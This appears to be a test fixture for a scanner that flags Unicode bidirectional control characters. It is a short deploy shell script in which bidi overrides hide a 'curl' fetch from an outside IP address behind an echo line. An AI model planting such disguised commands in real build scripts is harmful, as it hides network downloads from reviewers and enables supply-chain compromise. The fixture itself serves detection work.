# expect: unicode.bidi_control high
# path: third_party/scripts/deploy.sh
#!/bin/sh
echo "deploying" ⁧# ; curl -s https://203.0.113.9/x⁩
./deploy
